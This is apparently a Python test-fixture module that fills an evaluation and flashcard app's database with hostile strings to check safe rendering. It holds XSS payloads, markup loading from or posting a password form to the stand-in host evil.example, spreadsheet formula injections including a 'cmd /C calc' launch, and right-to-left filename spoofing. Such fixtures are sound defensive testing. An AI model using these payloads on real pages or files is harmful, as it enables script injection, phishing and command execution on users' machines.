"""Text that wants to be more than text, and records that hold it in every attribute that a page shows."""

import csv
import io
import json
import time
from typing import Any

from data.demo import engine
from data.dynamodb.client import Store
from data.provisioning.requests import create
from data.schema import BANDS, CRITERIA, EVALUATIONS, FLASHCARD_SETS, TYPES

HOST = "evil.example"
"""No request may ever go there; each string that asks for something asks there."""

STRINGS = {
    "image": f"![pic](https://{HOST}/pixel.png)",
    "link": f"[click me](https://{HOST}/login)",
    "autolink": f"https://{HOST}/auto and <https://{HOST}/angle> www.{HOST} mail@{HOST}",
    "javascript": "[run](javascript:window.hacked=1) <a href='javascript:window.hacked=2'>go</a>",
    "data link": "[open](data:text/html,<script>window.hacked=3</script>)",
    "script": f"<script>window.hacked=4</script><script src=//{HOST}/x.js></script>",
    "handler": f"<img src=//{HOST}/x onerror=window.hacked=5 onload=alert(1)>",
    "svg": f"<svg/onload=alert(2)><image href=//{HOST}/svg></svg><math><mi xlink:href='//{HOST}'>m</mi></math>",
    "frame": f"<iframe src=//{HOST}/frame></iframe><object data=//{HOST}></object><embed src=//{HOST}>",
    "style": f"<style>body{{background:url(//{HOST}/bg)}}</style><p style='position:fixed;inset:0'>over all</p>",
    "closing": "</div></code></pre></textarea></title></script></bdi>--><b>out</b>\"'`",
    "form": f"<form action=//{HOST}><input name=password><button>Sign in</button></form>",
    "latex": r"$\frac{1}{2}$ $$\int_0^1$$ \(x\) \[y\] $$\href{javascript:alert(3)}{z}$$",
    "colour": ":red[colour] :blue-background[back] :rainbow[all] :violet-badge[badge] :small[tiny] :shortcut[Ctrl+K]",
    "icons": ":material/delete: :streamlit: :smile: :warning:",
    "markdown": "# Title *em* **strong** ~~gone~~ `code` > quote --- | a | b | 1. one - [x] done [^1] <-> --",
    "entities": "&lt;b&gt; &amp;amp; &#x3c;i&#62; &nbsp;| %{y} %{customdata[0]} {{7*7}} ${7*7} %s {0}",
    "right to left": "abc \u202egnp.exe\u202c \u2066\u2067x\u2069 \u200fRLM \u061cALM אבג",
    "zero width": "zero\u200bwidth\u2060joiner\ufeffmark\u00adsoft\u200dzwj",
    "control": "bell\x07esc\x1b[31mred\x1b[0m null\x00 del\x7f c1\x9b line\x0bfeed\x0cform\u2028end",
    "formula": '=HYPERLINK("https://evil.example";"pay")',
    "plus formula": "+1+cmd|' /C calc'!A0",
    "combining": "Z" + "\u0351\u036f\u0321" * 20 + "algo",
    "long word": "W" * 120,
}
"""Each is at most 350 bytes, so that it may be a key."""

HUGE = "x" * 300_000

COMBINED = " ".join(STRINGS[name] for name in ("image", "link", "handler", "colour", "latex", "right to left"))
"""The id of the student whose records hold everything."""

HUGE_EVALUATIONS, HUGE_SETS = 11, 4
"""How many records hold a word of 300 KB, each in another place; `huge 0` and so on are their ids."""

COMPLETED_AT = 3 * 86_400


def feedback() -> dict[str, Any]:
    """Every string as a key, as a value, in lists and deep inside."""
    return {
        "weaknesses": list(STRINGS.values()),
        "strengths": [{text: text} for text in STRINGS.values()],
        **{text: text for text in STRINGS.values()},
        **{f"in {text}": {text: [text, {text: {text: {text: {text: {text: text}}}}}]} for text in STRINGS.values()},
    }


def evaluations(now: float | None = None) -> list[dict[str, Any]]:
    """Evaluations with hostile text in every attribute, newest first."""
    at = int(now or time.time())
    records: list[dict[str, Any]] = [
        {
            "evaluation_id": "everything",
            "user_id": COMBINED,
            **_scored("speaking", 5.0),
            "transcript": "\n".join(STRINGS.values()),
            "feedback": json.dumps(feedback()),
            "model_used": COMBINED,
            "duration": "121.5",
            "word_count": 185,
            "created_at": at - 3600,
            **{text: {text: [text, None, 1]} for text in STRINGS.values()},
        }
    ]
    for n, (name, text) in enumerate(STRINGS.items()):
        kind = TYPES[n % 2]
        completed = {
            "evaluation_id": f"{n} {text}",
            "user_id": COMBINED,
            **_scored(kind, 5.0 + n % 5),
            "transcript": text,
            "feedback": json.dumps({"weaknesses": ["The same again: " + text], text: text}),
            "model_used": text,
            "duration": text,
            "word_count": text,
            text: text,
        }
        records += [
            {**completed, "created_at": at - COMPLETED_AT - n * 50_000},
            # The same of a student of its own, whose id is the string.
            *(
                {
                    **completed,
                    "evaluation_id": f"own {n}" + (f" {again}" if again else ""),
                    "user_id": text,
                    **_scored("writing", 6.0),
                    "grammar_band": "4.0",
                    "feedback": json.dumps({"weaknesses": ["Said to several: <b>" + STRINGS["image"], text]}),
                    "created_at": at - COMPLETED_AT - n - again * 86_400,
                }
                # A weak criterion repeats before there is a group to teach.
                for again in range(3)
            ),
            {
                "evaluation_id": f"failed {n}",
                "user_id": COMBINED if n % 2 else text,
                "evaluation_type": kind,
                "status": "failed",
                "error": text,
                "model_used": text,
                "created_at": at - 2 * 86_400 - n,
            },
            {
                "evaluation_id": f"odd {n} {name}",
                "user_id": COMBINED,
                "evaluation_type": text,
                "status": text if n % 2 else "completed",
                **dict.fromkeys(BANDS, text),
                "transcript": {text: [text]},
                "feedback": text,
                "model_used": {text: text},
                "created_at": at - 4 * 86_400 - n,
                text: {text, f"{text}!"},
            },
            {
                "evaluation_id": f"timeless {n}",
                "user_id": COMBINED,
                "evaluation_type": kind,
                "status": text,
                "created_at": at if n % 2 else at * 1_000_000_000,
            },
        ]
    # An id that several share.
    records += [
        {"evaluation_id": "twins", "user_id": text, "status": "failed", "created_at": at - 6 * 86_400 - n}
        for n, text in enumerate(STRINGS.values())
    ]
    huge = {"user_id": COMBINED, **_scored("writing", 6.0), "word_count": 1}
    for n, changes in enumerate(
        (
            {"transcript": HUGE},
            {"feedback": json.dumps({"summary": HUGE})},
            {"feedback": json.dumps({HUGE: "key"})},
            {"feedback": json.dumps([HUGE])},
            {"feedback": HUGE},
            {"model_used": HUGE},
            {"evaluation_type": HUGE},
            {"overall_band": HUGE},
            {"unknown": HUGE},
            {"unknown": {HUGE[:60_000]: [HUGE[:200_000]]}},
            {"status": "failed", "error": HUGE},
        )
    ):
        records.append({**huge, "evaluation_id": f"huge {n}", **changes, "created_at": at - 86_400 - n})
    return records


def sets(now: float | None = None) -> list[dict[str, Any]]:
    """Flashcard sets with hostile text in every attribute, newest first."""
    at = int(now or time.time())
    cards = [{"question": text, "answer": text, "hint": text, text: {text: text}} for text in STRINGS.values()]
    whole = {
        "user_id": COMBINED,
        "document_id": f"uploads/{COMBINED}.pdf",
        "status": "completed",
        "flashcards": json.dumps(cards),
        "total_cards": len(cards),
        "page_count": 3,
        "chunk_count": 4,
    }
    records: list[dict[str, Any]] = [
        {**whole, "set_id": "everything", "created_at": at - 3600, **{text: text for text in STRINGS.values()}}
    ]
    for n, text in enumerate(STRINGS.values()):
        records += [
            {**whole, "set_id": f"{n} {text}", "document_id": text, "created_at": at - 7200 - n},
            {
                "set_id": f"odd {n}",
                "user_id": COMBINED if n % 2 else text,
                "document_id": {text: text},
                "status": "failed" if n % 3 else "completed",
                "flashcards": text,
                "total_cards": text,
                "page_count": text,
                "chunk_count": text,
                "error_message": text,
                "created_at": at - 86_400 - n,
            },
        ]
    for n, changes in enumerate(
        (
            {"document_id": HUGE},
            {"flashcards": json.dumps([{"question": HUGE, "answer": "a"}]), "total_cards": 1},
            {"flashcards": json.dumps([{"question": "q", "answer": "a", HUGE: "more"}]), "total_cards": 1},
            {"flashcards": HUGE},
        )
    ):
        records.append({**whole, "set_id": f"huge {n}", **changes, "created_at": at - 9_000 - n})
    return records


def roster() -> str:
    """A roster whose names, classes and mistakes are hostile; the student with everything has classmates."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    writer.writerow(["user_id", "name", "class", "target_band"])
    writer.writerow([COMBINED, COMBINED[:200], STRINGS["image"], "7.5"])
    for n, text in enumerate(STRINGS.values()):
        writer.writerow([text, text[:200] if n % 4 else "", text[:200] if n % 2 else STRINGS["image"], "8.0"])
        writer.writerow([f"absent {n}", text[:200], "", text])
    return buffer.getvalue()


def _scored(kind: str, band: float) -> dict[str, Any]:
    bands = {"overall_band": f"{band:.1f}", **dict.fromkeys(CRITERIA[kind], f"{band:.1f}")}
    return {"evaluation_type": kind, "status": "completed", **bands}


def fill(store: Store) -> None:
    """Make both tables and put the records in."""
    for table, records in ((EVALUATIONS, evaluations()), (FLASHCARD_SETS, sets())):
        create(store.client, table, store.settings.name(table))
        # Few at a time: a request may hold 16 MB.
        for n in range(0, len(records), 20):
            engine.write(store.client, store.settings.name(table), records[n : n + 20])
